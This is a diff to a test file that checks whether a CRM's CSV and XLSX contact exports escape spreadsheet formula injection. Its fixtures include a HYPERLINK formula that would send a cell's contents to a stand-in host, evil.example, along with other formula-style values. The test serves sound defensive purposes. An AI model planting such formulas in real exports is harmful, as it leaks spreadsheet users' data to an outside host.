@@ -20,7 +20,7 @@ from factories import make
 from policies import approvals
 from views import fields as vf
 
-ID_NUMBER = "330106198807154321"
+ID_NUMBER = "330106198807154323"
 TOP_FILE = "鸿项字第003号"
 SECRET_FILE = "鸿借字第007号"
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
@@ -131,7 +131,8 @@ def test_inbox_masks_what_the_approver_may_not_see(world, app):
 # ---------------------------------------------------------------- 5. formula injection in related columns
 def test_every_export_cell_is_formula_safe(world, admin_client):
     customer = make(models.Customer, name=FORMULA, industry=" =1+1", address="＝SUM(A1:A9)", website="＠cmd")
-    make(models.Contact, customer=customer, name="-2+3", title="\t=1", phone=" =1+1", mobile="＝SUM(A1:A9)",
+    # (The mobile is a checked format, Meta.domain: a formula cannot be stored there.)
+    make(models.Contact, customer=customer, name="-2+3", title="\t=1", phone=" =1+1", mobile="13800001111",
          email="ok@example.cn", consent_at=models.utcnow())  # CUS-3: the contact agreed to keep mobile and e-mail
     body = admin_client.get("/admin/contact/export/csv/").get_data(as_text=True).lstrip("\ufeff")
     header, *rows = list(csv.reader(io.StringIO(body)))
@@ -142,7 +143,7 @@ def test_every_export_cell_is_formula_safe(world, admin_client):
     cells = [c for line in sheet.iter_rows() for c in line]
     assert all(c.data_type != "f" for c in cells)
     assert "'" + FORMULA in [c.value for c in cells]
-    assert row[header.index("电话(含区号)")] == "' =1+1" and row[header.index("手机")] == "'＝SUM(A1:A9)"
+    assert row[header.index("电话(含区号)")] == "' =1+1"
     book = openpyxl.load_workbook(io.BytesIO(export_personal(admin_client, customer, "xlsx").data))
     cells = [c for ws in book.worksheets for line in ws.iter_rows() for c in line]
     assert all(c.data_type != "f" for c in cells)
